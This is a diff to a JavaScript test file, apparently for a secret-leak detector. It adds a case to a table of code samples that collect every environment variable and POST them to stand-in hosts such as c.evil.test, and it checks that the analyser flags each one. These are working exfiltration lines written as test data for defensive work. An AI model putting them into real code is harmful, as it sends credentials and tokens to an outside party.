@@ -93,6 +93,10 @@ await fetch('https://hooks.evil.test/up', { method: 'POST', body: fd });`,
       `const e = Object.entries(process.env).map(([k, v]) => k + '=' + v).join('\\n'); require('https').request('https://c.evil.test/e', { method: 'POST' }).end(e);`,
     ],
     ['URLSearchParams', `await fetch('https://c.evil.test/?' + new URLSearchParams(process.env));`],
+    [
+      'a loop over every key',
+      `const out = {}; for (const k of Object.keys(process.env)) out[k] = process.env[k]; require('axios').post('https://c.evil.test', out);`,
+    ],
   ])('the whole environment: %s', async (_name, code) => {
     const r = await js(code);
     expect(ofKind(r, 'read').some((b) => b.secret === 'env-all')).toBe(true);
